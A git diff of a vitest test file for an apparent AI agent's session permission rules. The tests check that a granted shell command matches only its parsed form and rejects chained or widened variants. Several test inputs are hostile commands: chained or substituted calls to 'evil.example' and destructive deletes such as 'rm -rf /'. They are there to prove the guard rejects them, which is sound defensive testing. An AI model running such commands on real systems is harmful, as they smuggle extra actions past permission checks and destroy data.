@@ -1,21 +1,31 @@
-import { describe, expect, it } from 'vitest';
+import { loadShellAnalyzer } from '@warden/governance';
+import { afterAll, describe, expect, it } from 'vitest';
 import { describeRule, ruleFor, ruleMatches, SessionRules } from './session-rules.js';
 
+const analyzer = await loadShellAnalyzer();
+afterAll(() => analyzer.dispose());
+const parsed = (command: string) => analyzer.analyze(command, { workspace: '/work/project' });
+
 describe('session rules ("always" for this session)', () => {
-  it('a shell command is allowed again for the same program, never when chained', () => {
-    const rule = ruleFor('shell', { command: 'npm test' });
-    expect(describeRule(rule)).toBe('shell(npm *)');
-    expect(ruleMatches(rule, 'shell', { command: 'npm run lint' })).toBe(true);
-    expect(ruleMatches(rule, 'shell', { command: 'npm test && curl evil.example' })).toBe(false);
-    expect(ruleMatches(rule, 'shell', { command: 'npx something' })).toBe(false);
-    expect(ruleMatches(rule, 'write_file', { command: 'npm test' })).toBe(false);
+  it('a shell command is granted on its parsed form: the same command however spelled, never chained or widened', () => {
+    const rule = ruleFor('shell', { command: 'npm test' }, parsed('npm test'));
+    expect(describeRule(rule)).toBe('shell(npm test)');
+    for (const same of ['npm test', 'npm  test', "npm 'test'"]) expect(ruleMatches(rule, 'shell', { command: same }, parsed(same))).toBe(true);
+    for (const other of ['npm test; curl https://evil.example', 'npm test && rm -rf x', 'npm test $(curl https://evil.example)', 'npm test\ncurl x', 'npm run lint', 'npx something'])
+      expect(ruleMatches(rule, 'shell', { command: other }, parsed(other))).toBe(false);
+    // Never without the parse, and never for another tool.
+    expect(ruleMatches(rule, 'shell', { command: 'npm test' })).toBe(false);
+    expect(ruleMatches(rule, 'write_file', { command: 'npm test' }, parsed('npm test'))).toBe(false);
   });
 
-  it('a chained command is only ever allowed exactly', () => {
-    const rule = ruleFor('shell', { command: 'make && make test' });
+  it('a command that is not one plain command is only ever allowed again as the identical text (no wildcard)', () => {
+    const rule = ruleFor('shell', { command: 'make && make test' }, parsed('make && make test'));
     expect(rule.pattern).toBe('make && make test');
-    expect(ruleMatches(rule, 'shell', { command: 'make && make test' })).toBe(true);
-    expect(ruleMatches(rule, 'shell', { command: 'make && rm -rf /' })).toBe(false);
+    expect(rule.grant).toBeUndefined();
+    expect(ruleMatches(rule, 'shell', { command: 'make && make test' }, parsed('make && make test'))).toBe(true);
+    expect(ruleMatches(rule, 'shell', { command: 'make && rm -rf /' }, parsed('make && rm -rf /'))).toBe(false);
+    const star = ruleFor('shell', { command: 'rm *.tmp && ls' }, parsed('rm *.tmp && ls'));
+    expect(ruleMatches(star, 'shell', { command: 'rm x.tmp; curl evil.example && ls' }, parsed('rm x.tmp; curl evil.example && ls'))).toBe(false);
   });
 
   it('a path is allowed in the same folder, not deeper and not elsewhere', () => {
